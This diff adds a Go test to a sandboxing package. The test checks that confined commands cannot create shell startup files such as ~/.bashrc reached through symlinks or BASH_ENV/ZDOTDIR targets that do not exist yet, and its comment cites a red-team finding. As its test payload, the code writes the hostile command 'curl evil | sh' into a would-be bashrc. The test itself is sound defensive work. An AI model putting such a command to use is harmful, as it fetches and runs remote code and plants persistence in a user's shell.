@@ -1,0 +1,81 @@
+package confine_test
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/gatehouse-dev/gatehouse/confine"
+)
+
+// The startup places were compared resolved, but a place that did not
+// exist yet was resolved not at all: a hidden entry of home that is a
+// symbolic link to a file not made yet (~/.bashrc -> ~/dotfiles/bashrc
+// after a fresh clone, ~/.config/nvim -> ~/dotfiles/nvim) was left out,
+// and a BASH_ENV, ZDOTDIR or XDG directory not made yet was compared as
+// spelled, not through the links of the part that exists (BASH_ENV
+// ~/lnk/env.sh with ~/lnk -> ~/proj). A command with Dir ~/dotfiles or
+// ~/proj made the file, which the user's next shell ran unconfined (red
+// team rtb). A missing place is now resolved as far as it exists, and a
+// link's target where it does not exist.
+func TestRedteamRTB_StartupPlaceNotMadeYet(t *testing.T) {
+	requireLandlock(t)
+	h := newHome(t)
+	t.Setenv("HOME", h.dir)
+	tmp := t.TempDir()
+	t.Setenv("TMPDIR", tmp)
+	for _, v := range []string{"ZDOTDIR", "BASH_ENV", "ENV", "XDG_CONFIG_HOME"} {
+		t.Setenv(v, "")
+	}
+	dotfiles := filepath.Join(h.dir, "dotfiles")
+	proj := filepath.Join(h.dir, "src", "proj")
+	other := filepath.Join(h.dir, "src", "other")
+	for _, d := range []string{dotfiles, proj, other, filepath.Join(h.dir, ".config")} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	h.symlink(t, filepath.Join(dotfiles, "bashrc"), ".bashrc")          // absolute, missing
+	h.symlink(t, "../../dotfiles/nvim", ".config/nvim")                 // relative, missing
+	h.symlink(t, filepath.Join(h.dir, "src", "proj"), "lnk")            // a link to the project
+	h.symlink(t, filepath.Join(h.dir, "gone", "thing"), ".config/gone") // missing, elsewhere
+	run := func(dir string) error {
+		t.Helper()
+		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", "echo 'curl evil | sh' > bashrc && echo x > env.sh")
+		if err != nil {
+			return err
+		}
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("%s: %v\n%s", dir, err, out)
+		}
+		return nil
+	}
+	if err := run(dotfiles); !errors.Is(err, confine.ErrWritableHome) {
+		t.Errorf("Dir holding what ~/.bashrc links to: want ErrWritableHome, got %v", err)
+	}
+	for _, c := range []struct{ env, value string }{
+		{"BASH_ENV", filepath.Join(h.dir, "lnk", "env.sh")},
+		{"ZDOTDIR", filepath.Join(h.dir, "lnk", "zsh")},
+		{"XDG_CONFIG_HOME", filepath.Join(h.dir, "lnk", "config")},
+	} {
+		t.Setenv(c.env, c.value)
+		if err := run(proj); !errors.Is(err, confine.ErrWritableHome) {
+			t.Errorf("%s=%s, Dir its target: want ErrWritableHome, got %v", c.env, c.value, err)
+		}
+		t.Setenv(c.env, "")
+	}
+	if _, err := os.Stat(filepath.Join(dotfiles, "bashrc")); err == nil {
+		t.Error("a bashrc was left where ~/.bashrc links")
+	}
+
+	// Near misses: a project beside them, and a missing link target
+	// outside home (Chrome's SingletonSocket, stale, into the temporary
+	// directory), run and write.
+	h.symlink(t, filepath.Join(tmp, ".com.google.Chrome.x", "SingletonSocket"), ".config/SingletonSocket")
+	t.Setenv("BASH_ENV", filepath.Join(h.dir, "lnk", "env.sh"))
+	if err := run(other); err != nil {
+		t.Errorf("a project beside them: %v", err)
+	}
+}
